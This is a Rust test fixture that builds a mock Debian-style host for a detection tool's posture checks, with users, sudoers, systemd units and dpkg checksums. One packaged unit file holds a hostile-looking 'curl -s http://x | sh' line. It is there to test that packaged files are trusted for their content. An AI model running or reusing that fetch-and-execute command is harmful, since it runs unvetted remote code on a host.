//! A small host in a directory: clean, as a distribution would install it.

use std::fmt::Write as _;
use std::fs;
use std::os::unix::fs::{PermissionsExt as _, chown, symlink};
use std::path::{Path, PathBuf};

use md5::{Digest as _, Md5};
use whodunit::detect::{Tunables, posture::assess};
use whodunit::event::Posture;
use whodunit::host::rooted::Root;
use whodunit::host::users::Users;
use whodunit::systemd::inventory::{Inventory, collect};
use whodunit::systemd::presence::load_paths_at;

/// The directory, and the files that its one package brought.
pub(crate) struct Tree {
    dir: tempfile::TempDir,
    packaged: Vec<String>,
}

impl Tree {
    /// A clean host.
    pub(crate) fn clean() -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let mut tree = Self {
            dir,
            packaged: Vec::new(),
        };
        for dir in [
            "tmp",
            "var/tmp",
            "home/alice",
            "usr/lib/systemd/system",
            "etc/systemd/user",
        ] {
            fs::create_dir_all(tree.at(dir)).expect("mkdir");
        }
        symlink("usr/lib", tree.at("lib")).expect("link");
        symlink("usr/bin", tree.at("bin")).expect("link");
        tree.mode("tmp", 0o1777).mode("var/tmp", 0o1777);
        tree.own("home/alice", 1000);
        tree.file(
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n\
             www:x:33:33::/var/www:/usr/sbin/nologin\n",
        );
        tree.file(
            "etc/group",
            "root:x:0:\nsudo:x:27:\nstaff:x:50:\nops:x:60:alice\nalice:x:1000:\n",
        );
        tree.file(
            "etc/sudoers",
            "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
        );
        tree.package("usr/bin/sh", "ELF", 0o755);
        tree.package("usr/bin/curl", "ELF curl", 0o755);
        tree.package("usr/sbin/logrotate", "ELF logrotate", 0o755);
        let service =
            "[Service]\nType=oneshot\nExecStart=/usr/sbin/logrotate /etc/logrotate.conf\n";
        tree.package("usr/lib/systemd/system/logrotate.service", service, 0o644);
        let timer = "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n";
        tree.package("usr/lib/systemd/system/logrotate.timer", timer, 0o644);
        tree.package(
            "usr/lib/systemd/system/unattended-upgrades.service",
            service,
            0o644,
        );
        // What packages bring is trusted for its content, however it looks.
        let shell =
            "[Service]\nExecStart=/bin/sh -c 'curl -s http://x | sh'\n[Timer]\nOnUnitActiveSec=1\n";
        tree.package("usr/lib/systemd/system/loud@.service", shell, 0o644);
        tree.package(
            "usr/lib/systemd/system-generators/fstab",
            "ELF generator",
            0o755,
        );
        tree.link(
            "/usr/lib/systemd/system/logrotate.timer",
            "etc/systemd/system/timers.target.wants/logrotate.timer",
        );
        tree.link("/dev/null", "etc/systemd/system/getty@tty1.service");
        tree
    }

    /// The path of a file for this process.
    pub(crate) fn at(&self, path: &str) -> PathBuf {
        self.dir.path().join(path)
    }

    /// The directory.
    pub(crate) fn dir(&self) -> &Path {
        self.dir.path()
    }

    /// Writes a file, with the directories above it.
    pub(crate) fn file(&self, path: &str, content: &str) -> &Self {
        let at = self.at(path);
        fs::create_dir_all(at.parent().expect("a parent")).expect("mkdir");
        fs::write(&at, content).expect("write");
        self.mode(path, 0o644)
    }

    /// An executable.
    pub(crate) fn program(&self, path: &str, content: &str) -> &Self {
        self.file(path, content).mode(path, 0o755)
    }

    /// A file that the package brings.
    pub(crate) fn package(&mut self, path: &str, content: &str, mode: u32) -> &Self {
        self.file(path, content).mode(path, mode);
        self.packaged.push(path.to_owned());
        let (mut list, mut sums) = ("/.\n".to_owned(), String::new());
        for path in &self.packaged {
            let bytes = fs::read(self.at(path)).expect("read");
            let _ = writeln!(list, "/{path}");
            for byte in Md5::digest(&bytes) {
                let _ = write!(sums, "{byte:02x}");
            }
            let _ = writeln!(sums, "  {path}");
        }
        self.file(
            "var/lib/dpkg/status",
            "Package: base\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n",
        );
        self.file("var/lib/dpkg/info/base.list", &list);
        self.file("var/lib/dpkg/info/base.md5sums", &sums)
    }

    /// Changes a mode.
    pub(crate) fn mode(&self, path: &str, mode: u32) -> &Self {
        fs::set_permissions(self.at(path), fs::Permissions::from_mode(mode)).expect("chmod");
        self
    }

    /// Gives a file to a user.
    pub(crate) fn own(&self, path: &str, uid: u32) -> &Self {
        chown(self.at(path), Some(uid), Some(uid)).expect("chown: these tests run as root");
        self
    }

    /// Makes a link, with the directories above it.
    pub(crate) fn link(&self, target: &str, path: &str) -> &Self {
        let at = self.at(path);
        fs::create_dir_all(at.parent().expect("a parent")).expect("mkdir");
        symlink(target, at).expect("link");
        self
    }

    /// A unit of the administrator's.
    pub(crate) fn unit(&self, name: &str, content: &str) -> &Self {
        self.file(&format!("etc/systemd/system/{name}"), content)
    }

    /// What there is.
    pub(crate) fn inventory(&self) -> Inventory {
        let mut users = Users::at(self.at("etc/passwd"));
        users.refresh().expect("passwd");
        let paths = load_paths_at(self.dir(), &users, &[]);
        collect(&Root::at(self.dir()), &paths)
    }

    /// What is odd about it.
    pub(crate) fn results(&self) -> Vec<Posture> {
        assess(&self.inventory(), &Tunables::default())
    }
}
